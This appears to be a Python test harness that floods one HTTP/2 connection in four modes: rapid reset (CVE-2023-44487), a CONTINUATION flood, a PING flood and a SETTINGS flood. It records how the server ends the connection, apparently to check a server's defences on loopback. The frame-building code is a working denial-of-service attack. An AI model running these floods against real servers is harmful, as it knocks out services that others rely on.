#!/usr/bin/python3
"""HTTP/2 floods against one connection, bounded in count and time, reporting how the server
ended them. Used by tests/http2_floods.rs (loopback only).

Usage: flood.py HOST PORT CA_FILE MODE COUNT
MODE: rapid_reset   HEADERS then RST_STREAM(CANCEL) for COUNT streams (CVE-2023-44487)
      continuation  one HEADERS without END_HEADERS, then up to COUNT CONTINUATION frames
      ping          COUNT PING frames, reading nothing back until the end
      settings      COUNT SETTINGS frames, reading nothing back until the end
Output: {"sent": frames written, "goaway": code or null, "closed": bool, "last_stream": id,
         "acks": PING or SETTINGS acknowledgements received, "responses": responses received}
"""

import json
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import hpack

DEADLINE = time.monotonic() + 20


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


PING = None
SETTINGS = None


def main():
    global PING, SETTINGS
    host, port, ca, mode, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], int(sys.argv[5])
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    tls = context.wrap_socket(socket.create_connection((host, port), timeout=3), server_hostname="localhost")
    config = h2.config.H2Configuration(client_side=True, header_encoding=None)
    conn = h2.connection.H2Connection(config=config)
    conn.initiate_connection()
    tls.sendall(conn.data_to_send())
    encoder = hpack.Encoder()
    PING = frame(0x6, 0x0, 0, struct.pack(">Q", 7))
    SETTINGS = frame(0x4, 0x0, 0, struct.pack(">HI", 0x3, 100))
    stalled = False
    base = [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", b"/x")]

    sent = 0
    closed = False
    batch = b""
    try:
        if mode == "continuation":
            block = encoder.encode(base)
            tls.sendall(frame(0x1, 0x0, 1, block))  # HEADERS, no END_HEADERS, no END_STREAM
        for i in range(count):
            if time.monotonic() > DEADLINE:
                break
            if mode == "rapid_reset":
                stream = 1 + 2 * i
                batch += frame(0x1, 0x4 | 0x1, stream, encoder.encode(base))  # END_HEADERS|END_STREAM
                batch += frame(0x3, 0x0, stream, struct.pack(">I", 0x8))  # RST_STREAM CANCEL
            elif mode == "continuation":
                junk = encoder.encode([(b"x-junk-%d" % i, b"v" * 200)])
                batch += frame(0x9, 0x0, 1, junk)
            elif mode == "ping":
                batch += PING
            elif mode == "settings":
                batch += SETTINGS
            else:
                raise SystemExit("unknown mode " + mode)
            sent += 1
            if len(batch) > 16384:
                tls.sendall(batch)
                batch = b""
        if batch:
            tls.sendall(batch)
    except socket.timeout:
        # The server stopped reading: it pushes back instead of queueing answers.
        stalled = True
    except (ConnectionError, ssl.SSLError, OSError):
        closed = True

    goaway = None
    last_stream = None
    acks = 0
    responses = 0
    tls.settimeout(2)
    try:
        while time.monotonic() < DEADLINE + 5:
            data = tls.recv(65536)
            if not data:
                closed = True
                break
            try:
                events = conn.receive_data(data)
            except Exception:
                # The client state machine may object to what the flood provoked; the raw
                # GOAWAY, if any, has been seen by then.
                events = []
            for event in events:
                if isinstance(event, (h2.events.PingAckReceived, h2.events.SettingsAcknowledged)):
                    acks += 1
                elif isinstance(event, h2.events.ResponseReceived):
                    responses += 1
                elif isinstance(event, h2.events.ConnectionTerminated):
                    goaway = int(event.error_code)
                    last_stream = event.last_stream_id
    except socket.timeout:
        pass
    except (ConnectionError, ssl.SSLError, OSError):
        closed = True
    print(json.dumps({"sent": sent, "goaway": goaway, "closed": closed, "last_stream": last_stream,
                      "acks": acks, "responses": responses, "stalled": stalled}))


if __name__ == "__main__":
    main()
